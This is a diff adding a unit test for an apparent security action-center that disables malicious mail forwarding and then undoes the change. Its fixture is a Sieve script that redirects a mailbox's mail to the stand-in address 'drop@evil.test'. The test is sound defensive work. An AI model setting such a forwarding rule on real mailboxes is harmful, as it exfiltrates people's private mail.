@@ -66,6 +66,34 @@ class WholeWay(unittest.TestCase):
         for mailbox in self.mailboxes:
             self.assertEqual(self.before[mailbox], self.lab.snapshot(mailbox))
 
+    def test_forwarding_is_turned_off_and_on_again(self):
+        mailbox = self.mailboxes[1]
+        script = b'redirect "drop@evil.test";\nredirect "colleague@example.test";\n'
+        with self.lab.sieve(mailbox) as owner:
+            owner.put("main", script, active=True)
+            before = owner.snapshot()
+        answer = self.service.request("POST", "/investigations", {
+            "externalId": "forwarding", "title": "Mail of a mailbox is forwarded outside",
+            "trigger": "alert", "detectionSource": "Lab", "severity": "high", "evidence": [],
+            "actions": [{"type": "turnOffMailForwarding", "verdict": "malicious",
+                         "source": "automatedEmail", "reason": "The address outside is new.",
+                         "entity": {"type": "mailbox", "address": mailbox,
+                                    "forwardingTargets": ["drop@evil.test"]},
+                         "assets": [mailbox]}]}, role="detector")
+        self.assertEqual(201, answer.status, answer)
+        action = answer.json["actions"][0]["id"]
+        self.decide("approve", [action])
+        done = self.service.action(action)
+        self.assertEqual(("completed", "done"), (done["status"], done["results"][0]["outcome"]))
+        self.assertIn("“drop@evil.test”", done["results"][0]["detail"])
+        with self.lab.sieve(mailbox) as owner:
+            self.assertEqual("action-center", owner.active())
+            self.assertEqual(script.split(b"\n", 1)[1], owner.get("action-center"))
+        self.decide("undo", [action])
+        self.assertEqual("undone", self.service.action(action)["status"])
+        with self.lab.sieve(mailbox) as owner:
+            self.assertEqual(before, owner.snapshot())
+
 
 if __name__ == "__main__":
     unittest.main()
